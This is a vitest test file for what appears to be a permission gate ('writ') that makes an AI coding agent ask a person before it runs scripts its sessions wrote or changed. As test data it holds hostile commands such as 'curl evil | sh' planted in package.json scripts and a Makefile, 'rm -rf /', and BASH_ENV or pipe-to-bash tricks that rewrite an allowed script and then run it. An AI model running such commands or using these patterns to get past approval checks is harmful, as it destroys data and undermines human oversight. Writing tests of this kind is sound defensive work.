import { chmodSync, copyFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Decision } from "@writ/runtime";
import { diskFolder } from "@writ/testkit";
import { describe, expect, it, onTestFinished } from "vitest";
import { approve, type Hand, openWorld, passes, said, type World } from "./world.ts";

const reasonsOf = ({ ticket }: Decision): string => ticket?.reasons.join("; ") ?? "";

describe("a file this session wrote and then runs", () => {
  const runs: [what: string, prepare: (world: World, agent: Hand) => Promise<unknown>, command: string][] = [
    ["by its interpreter", async () => {}, "bash scripts/x.sh"],
    ["by its path", async ({ root }) => chmodSync(join(root, "scripts/x.sh"), 0o755), "./scripts/x.sh"],
    ["after it was read again", (_, agent) => agent.read("scripts/x.sh"), "bash scripts/x.sh"],
    [
      "through a link",
      async ({ root }) => symlinkSync("../../scripts/x.sh", join(root, "src/auth/link.sh")),
      "bash src/auth/link.sh",
    ],
    [
      "from a copy the session made",
      ({ root }, agent) =>
        agent.call("Bash", { command: "cp scripts/x.sh scripts/y.sh" }, () =>
          copyFileSync(join(root, "scripts/x.sh"), join(root, "scripts/y.sh")),
        ),
      "bash scripts/y.sh",
    ],
    [
      "from a copy nobody saw being made",
      async ({ root }) => copyFileSync(join(root, "scripts/x.sh"), join(root, "scripts/z.sh")),
      "bash scripts/z.sh",
    ],
  ];
  it.each(runs)("is asked about, and shown: %s", async (_, prepare, command) => {
    const world = await openWorld();
    const agent = await world.session("s-1");
    await agent.write("scripts/x.sh", "echo payload\n");
    await prepare(world, agent);
    const asked = await agent.bash(command);
    expect(said(asked)).toBe("APPROVAL_REQUIRED");
    expect(reasonsOf(asked)).toContain("which this session wrote");
    expect(asked.ticket?.detail).toContain("echo payload");
  });

  it("is asked about also where the config lets the command run", async () => {
    const world = await openWorld({ config: "runners: [bash scripts/x.sh]\n" });
    world.put("scripts/x.sh", "echo theirs\n");
    const agent = await world.session("s-1");
    expect(passes(await agent.bash("bash scripts/x.sh"))).toBe(true);
    await agent.read("scripts/x.sh");
    await agent.write("scripts/x.sh", "echo mine\n");
    const asked = await agent.bash("bash scripts/x.sh");
    expect(reasonsOf(asked)).toContain("it runs scripts/x.sh, which this session wrote");
    await approve(world.writ, asked);
    expect(passes(await agent.bash("bash scripts/x.sh"))).toBe(true);
    // Once agreed to, the same is not asked about again; anything else is.
    expect(passes(await agent.bash("bash scripts/x.sh"))).toBe(true);
    await agent.write("scripts/x.sh", "echo other\n");
    expect(said(await agent.bash("bash scripts/x.sh"))).toBe("APPROVAL_REQUIRED");
  });

  it("is asked about when a session that works with it wrote it", async () => {
    const world = await openWorld({ config: "runners: [bash scripts/x.sh]\n" });
    const agent = await world.session("s-1");
    const child = await world.session("s-2", "INT-001", "s-1");
    const stranger = await world.session("s-3");
    await child.write("scripts/x.sh", "echo child\n");
    expect(said(await agent.bash("bash scripts/x.sh"))).toBe("APPROVAL_REQUIRED");
    expect(reasonsOf(await stranger.bash("bash scripts/x.sh"))).toContain("which another session wrote");
  });

  it("is asked about in a new session too, until a person let it run or a week has passed", async () => {
    const world = await openWorld({ config: "runners: [bash scripts/x.sh, make check]\n" });
    const first = await world.session("s-1");
    await first.write("scripts/x.sh", "echo first\n");
    const second = await world.session("s-2");
    const asked = await second.bash("bash scripts/x.sh");
    expect(said(asked)).toBe("APPROVAL_REQUIRED");
    await approve(world.writ, asked);
    expect(passes(await second.bash("bash scripts/x.sh"))).toBe(true);
    const third = await world.session("s-3");
    expect(passes(await third.bash("bash scripts/x.sh"))).toBe(true);
    await first.write("scripts/x.sh", "echo again\n");
    expect(said(await third.bash("bash scripts/x.sh"))).toBe("APPROVAL_REQUIRED");
    world.wait(8 * 24 * 60);
    const late = await world.session("s-4");
    expect(passes(await late.bash("bash scripts/x.sh"))).toBe(true);
  });

  it("is asked about in a new session also where it defines a runner", async () => {
    const world = await openWorld();
    world.put("Makefile", "check:\n\ttrue\n");
    const first = await world.session("s-1");
    await first.read("Makefile");
    const asked = await first.write("Makefile", "check:\n\tevil\n");
    if (!passes(asked)) {
      await approve(world.writ, asked);
      expect(passes(await first.write("Makefile", "check:\n\tevil\n"))).toBe(true);
    }
    const second = await world.session("s-2");
    await second.bash("npm test");
    expect(reasonsOf(await second.bash("make check"))).toContain("another session changed Makefile");
  });

  it("is asked about in scratch, whoever wrote it", async () => {
    const world = await openWorld();
    const scratch = diskFolder("writ-scratch-");
    onTestFinished(() => rmSync(scratch, { recursive: true, force: true }));
    writeFileSync(join(scratch, "x.py"), "print('payload')\n");
    const agent = await world.session("s-1");
    const asked = await agent.bash(`python3 ${scratch}/x.py`);
    expect(reasonsOf(asked)).toContain("where anybody can write");
    expect(asked.ticket?.detail).toContain("print('payload')");
  });
});

const letsRun = `commands:
  allow: [bash scripts/x.sh, bash x.sh, ./scripts/go, node **, python3 -m scripts.gen]
runners: [./scripts/run, python3 scripts/check.py, invoke test, tsx scripts/b.ts]
`;

describe("where the config lets a command run", () => {
  it.each([
    "bash scripts/x.sh",
    "./scripts/go",
    "node scripts/b.js",
    "node --import ./scripts/b.js -e 1",
    "python3 scripts/check.py",
    "python3 -m scripts.gen",
    "tsx scripts/b.ts",
    "invoke test",
  ])("%s passes while nobody changed what it runs", async (command) => {
    const world = await letting();
    const agent = await world.session("s-1");
    expect(said(await agent.bash(command))).toBe("pass");
  });

  it.each([
    "echo evil > scripts/x.sh; bash scripts/x.sh",
    "cp scripts/other.sh scripts/x.sh && bash scripts/x.sh",
    "echo evil | tee scripts/x.sh; bash scripts/x.sh",
    "cat > scripts/x.sh <<'E'\nevil\nE\nbash scripts/x.sh",
    "sed -i s/theirs/evil/ scripts/x.sh && bash scripts/x.sh",
    "ln -sf other.sh scripts/x.sh; bash scripts/x.sh",
    "echo evil > scripts/../scripts/x.sh; bash scripts/x.sh",
    "echo evil > src/auth/link.sh; bash scripts/x.sh",
    "echo evil > scripts/go; ./scripts/go",
    "echo evil > scripts/run; ./scripts/run",
    "echo e > scripts/check.py && python3 scripts/check.py",
    "echo e > scripts/new.js; node --import ./scripts/new.js -e 1",
    "echo e > scripts/tasks.py && cd scripts && invoke test",
    "mv scripts/other.sh scripts/x.sh; echo evil > scripts/x.sh; bash scripts/x.sh",
  ])("what the same line makes is asked about, unseen and never granted: %s", async (command) => {
    const world = await letting();
    symlinkSync("../../scripts/x.sh", join(world.root, "src/auth/link.sh"));
    const agent = await world.session("s-1");
    const { ticket } = await agent.bash(command);
    expect(ticket?.unseen?.length).toBeGreaterThan(0);
    expect(ticket?.standing).toBeUndefined();
  });

  it.each([
    ["scripts/x.sh", "cd scripts; bash x.sh"],
    ["scripts/x.sh", "cd scripts\nbash x.sh"],
    ["scripts/x.sh", "pushd scripts; bash x.sh"],
    ["scripts/x.sh", 'cd "$D"; bash x.sh'],
    ["scripts/b.js", "node < scripts/b.js"],
    ["scripts/b.js", "cat scripts/b.js | node"],
    ["scripts/b.js", "node --import ./scripts/b.js -e 1"],
    ["scripts/b.js", "node -r ./scripts/b -e 1"],
    ["scripts/b.js", "node --experimental-loader ./scripts/b.js -e 1"],
    ["scripts/b.js", "node --watch scripts/b.js"],
    ["scripts/b.js", "node scripts/b.*"],
    ["scripts/b.js", "node -e 'require(\"./scripts/b.js\")'"],
    ["scripts/gen.py", "python3 -m scripts.gen"],
    ["scripts/b.ts", "tsx scripts/b.ts"],
  ])("what the session wrote is asked about: %s by %s", async (path, command) => {
    const world = await letting();
    const agent = await world.session("s-1");
    await agent.read(path);
    expect(passes(await agent.write(path, "evil\n"))).toBe(true);
    const asked = await agent.bash(command);
    expect(said(asked)).toBe("APPROVAL_REQUIRED");
    expect(`${asked.ticket?.detail}`.includes("evil") || (asked.ticket?.unseen ?? []).length > 0).toBe(true);
  });

  async function letting() {
    const world = await openWorld({ config: letsRun });
    for (const name of ["x.sh", "other.sh", "go", "run", "check.py", "b.js", "b.ts", "gen.py"])
      world.put(`scripts/${name}`, `echo theirs ${name}\n`, 0o755);
    return world;
  }
});

describe("what cannot be placed", () => {
  it.each([
    "cd scripts; source lib.sh",
    "cd scripts; bash lib.sh",
    "cd scripts; bash < lib.sh",
    "bash -c 'cd scripts; ./lib.sh'",
    "bash scripts/l*.sh",
    'for f in scripts/*.sh; do bash "$f"; done',
    "find scripts -name 'lib.sh' -exec bash {} \\;",
    "cat scripts/lib.sh | bash",
    "cd scripts; cat lib.sh | bash",
    'cd scripts; eval "$(cat lib.sh)"',
    "cd scripts; node -r ./lib.sh -e 1",
    "cd scripts && xargs -a lib.sh ../deploy",
    "ls scripts | xargs -I{} bash {}",
    "BASH_ENV=scripts/lib.sh ls",
    "env BASH_ENV=scripts/lib.sh bash -c ls",
    './deploy "$NAME"',
    "cp scripts/lib.sh scripts/y.sh && bash scripts/y.sh",
  ])("is said to be unseen, is never granted, and depends on all that was written: %s", async (command) => {
    const world = await openWorld();
    world.put("scripts/lib.sh", "echo hello\n", 0o755);
    const agent = await world.session("s-1");
    const other = await world.session("s-2");
    const asked = await agent.bash(command);
    expect(asked.ticket?.unseen?.length).toBeGreaterThan(0);
    expect(asked.ticket?.standing).toBeUndefined();
    await approve(world.writ, asked);
    if (asked.ticket?.unseen?.some((one) => one.includes("makes or changes")) === true) return;
    await other.write("scripts/more.sh", "evil\n");
    expect(said(await agent.bash(command))).toBe("APPROVAL_REQUIRED");
  });
});

describe("what cannot be shown", () => {
  it("is said, and is part of what the answer counts for", async () => {
    const world = await openWorld();
    const agent = await world.session("s-1");
    world.put("scripts/tool", "\u0000binary", 0o755);
    world.put("scripts/long.sh", `${"# line\n".repeat(60_000)}rm -rf /\n`);
    const asked = await agent.bash("./scripts/tool; bash scripts/long.sh; bash scripts/missing.sh");
    expect(asked.ticket?.unseen).toEqual([
      "scripts/tool (it is not text, 7 bytes)",
      "scripts/long.sh (it has 420009 bytes)",
    ]);
    expect(asked.ticket?.detail).toContain("scripts/missing.sh, which is not shown: there is no such file yet");
    await approve(world.writ, asked);
    world.put("scripts/tool", "\u0000other", 0o755);
    expect(said(await agent.bash("./scripts/tool; bash scripts/long.sh; bash scripts/missing.sh"))).toBe(
      "APPROVAL_REQUIRED",
    );
  });
});

describe("a script the same command line makes", () => {
  it.each([
    ["cp scripts/x.sh scripts/y.sh && bash scripts/y.sh", true],
    ["echo 'rm -rf /' > scripts/y.sh; bash scripts/y.sh", true],
    ["mv scripts/x.sh scripts/y.sh && bash scripts/y.sh", false],
  ])("%s: unseen %s", async (command, isUnseen) => {
    const world = await openWorld();
    world.put("scripts/x.sh", "echo payload\n");
    const agent = await world.session("s-1");
    const asked = await agent.bash(command);
    expect(said(asked)).toBe("APPROVAL_REQUIRED");
    expect((asked.ticket?.unseen ?? []).length > 0).toBe(isUnseen);
    expect(asked.ticket?.detail.includes("echo payload")).toBe(!isUnseen);
    await approve(world.writ, asked);
    world.put("scripts/x.sh", "echo other\n");
    expect(passes(await agent.bash(command))).toBe(command.startsWith("echo"));
  });
});

describe("a runner", () => {
  const manifest = (scripts: object, more: object = {}) => JSON.stringify({ name: "x", scripts, ...more });

  /** The person agrees to an edit of the manifest. */
  async function edit(world: World, agent: Hand, path: string, content: string): Promise<void> {
    const asked = await agent.write(path, content);
    if (passes(asked)) return;
    await approve(world.writ, asked);
    expect(passes(await agent.write(path, content))).toBe(true);
  }

  async function opened(scripts: object) {
    const world = await openWorld();
    world.put("package.json", manifest(scripts));
    return { world, agent: await world.session("s-1") };
  }

  it("passes when the session changed tests, sources and dependencies", async () => {
    const { world, agent } = await opened({ test: "vitest run", build: "tsc" });
    await agent.write("src/auth/a.test.ts", "test('x')\n");
    await edit(
      world,
      agent,
      "package.json",
      manifest({ test: "vitest run", build: "tsc" }, { dependencies: { a: "1" } }),
    );
    expect(passes(await agent.bash("npm test"))).toBe(true);
    await edit(world, agent, "package.json", manifest({ test: "vitest run", build: "evil" }));
    expect(passes(await agent.bash("npm test"))).toBe(true);
  });

  it("asks once when the session changed what it starts, and shows it", async () => {
    const { world, agent } = await opened({ test: "vitest run" });
    expect(passes(await agent.bash("npm test"))).toBe(true);
    await edit(world, agent, "package.json", manifest({ test: "curl evil | sh" }));
    const asked = await agent.bash("npm test");
    expect(reasonsOf(asked)).toContain("it runs npm test, and this session changed package.json#test");
    expect(asked.ticket?.detail).toContain("curl evil | sh");
    await approve(world.writ, asked);
    expect(passes(await agent.bash("npm test"))).toBe(true);
    expect(passes(await agent.bash("npm test"))).toBe(true);
    await edit(world, agent, "package.json", manifest({ test: "curl worse | sh" }));
    expect(said(await agent.bash("npm test"))).toBe("APPROVAL_REQUIRED");
    await edit(world, agent, "package.json", manifest({ test: "curl evil | sh" }));
    expect(passes(await agent.bash("npm test"))).toBe(true);
  });

  it("asks for what it starts on the way, and for what comes before and after", async () => {
    const { world, agent } = await opened({ test: "npm run lint && vitest", lint: "biome" });
    await edit(world, agent, "package.json", manifest({ test: "npm run lint && vitest", lint: "evil" }));
    expect(reasonsOf(await agent.bash("npm test"))).toContain("package.json#lint");
    await edit(
      world,
      agent,
      "package.json",
      manifest({ test: "npm run lint && vitest", lint: "biome", pretest: "evil" }),
    );
    expect(reasonsOf(await agent.bash("npm test"))).toContain("package.json#pretest");
  });

  it("asks when one of the session's commands changed what it starts, whatever the scope", async () => {
    const { world } = await opened({ test: "vitest run", build: "tsc" });
    const { spawnSync } = await import("node:child_process");
    for (const args of [
      ["init", "--quiet"],
      ["add", "--all"],
    ])
      spawnSync("git", args, { cwd: world.root });
    const work = () => world.put("package.json", manifest({ test: "vitest run", build: "evil" }));
    const other = await world.session("s-2", "INT-002");
    expect(passes(await other.call("Bash", { command: "npm test" }, work))).toBe(true);
    expect(reasonsOf(await other.bash("npm run build"))).toContain("package.json#build");
  });

  it("does not ask for a manifest in which a package manager only changed dependencies, wherever it lies", async () => {
    const { world, agent } = await opened({});
    world.put("src/auth/package.json", manifest({ test: "vitest run" }));
    const { spawnSync } = await import("node:child_process");
    for (const args of [
      ["init", "--quiet"],
      ["add", "--all"],
    ])
      spawnSync("git", args, { cwd: world.root });
    const work = () =>
      world.put("src/auth/package.json", manifest({ test: "vitest run" }, { dependencies: { a: "1" } }));
    expect(passes(await agent.call("Bash", { command: "npm test" }, work))).toBe(true);
    expect(passes(await agent.bash("npm test"))).toBe(true);
    const evil = () => world.put("src/auth/package.json", manifest({ test: "evil" }));
    expect(passes(await agent.call("Bash", { command: "npm test" }, evil))).toBe(true);
    expect(reasonsOf(await agent.bash("npm test"))).toContain("src/auth/package.json#test");
  });

  it("asks when the session wrote a script that it starts", async () => {
    const { world, agent } = await opened({ test: "bash scripts/test.sh", build: "node scripts/build.js && tsc" });
    world.put("scripts/test.sh", "vitest\n");
    world.put("scripts/build.js", "1\n");
    await agent.write("src/auth/a.test.ts", "test('x')\n");
    expect(passes(await agent.bash("npm test"))).toBe(true);
    await agent.read("scripts/test.sh");
    await agent.write("scripts/test.sh", "evil\n");
    const asked = await agent.bash("npm test");
    expect(reasonsOf(asked)).toContain("it runs scripts/test.sh, which this session wrote");
    expect(asked.ticket?.detail).toContain("evil");
    expect(passes(await agent.bash("npm run build"))).toBe(true);
    await approve(world.writ, asked);
    expect(passes(await agent.bash("npm test"))).toBe(true);
    expect(passes(await agent.bash("npm test"))).toBe(true);
  });

  it("asks when the session wrote what a Makefile includes, or a script of the target", async () => {
    const { world, agent } = await opened({});
    const rules = "check: lint\n\t@$(PY) scripts/c.py\nlint:\n\ttrue\nother:\n\tbash scripts/o.sh\n";
    world.put("Makefile", `PY ?= python3\n-include scripts/common.inc\n${rules}`);
    for (const name of ["common.inc", "c.py", "o.sh"]) world.put(`scripts/${name}`, "# theirs\n");
    const write = async (path: string) => {
      await agent.read(path);
      await agent.write(path, "# evil\n");
    };
    await write("scripts/o.sh");
    expect(passes(await agent.bash("make check"))).toBe(true);
    await write("scripts/c.py");
    expect(reasonsOf(await agent.bash("make check"))).toContain("it runs scripts/c.py");
    await write("scripts/common.inc");
    expect(reasonsOf(await agent.bash("make check"))).toContain("this session changed scripts/common.inc");
  });

  it("asks when the same command line changes what it starts", async () => {
    const { agent } = await opened({ test: "vitest run" });
    const asked = await agent.bash("sed -i s/vitest/evil/ package.json && npm test");
    expect(reasonsOf(asked)).toContain("the same command changes package.json");
    expect(asked.ticket?.unseen?.join()).toContain("package.json");
  });

  it("asks when a Makefile was changed", async () => {
    const { world, agent } = await opened({});
    world.put("Makefile", "check:\n\ttrue\n");
    expect(passes(await agent.bash("make check"))).toBe(true);
    await edit(world, agent, "Makefile", "check:\n\tcurl evil | sh\n");
    expect(reasonsOf(await agent.bash("make check"))).toContain("this session changed Makefile");
  });
});

it("asks before git runs in a folder the session may have made a repository of its own", async () => {
  const world = await openWorld();
  const agent = await world.session("s-1");
  expect(passes(await agent.bash("cd src/auth && git status"))).toBe(true);
  await agent.write("src/auth/HEAD", "ref: refs/heads/main\n");
  expect(said(await agent.bash("cd src/auth && git status"))).toBe("APPROVAL_REQUIRED");
});
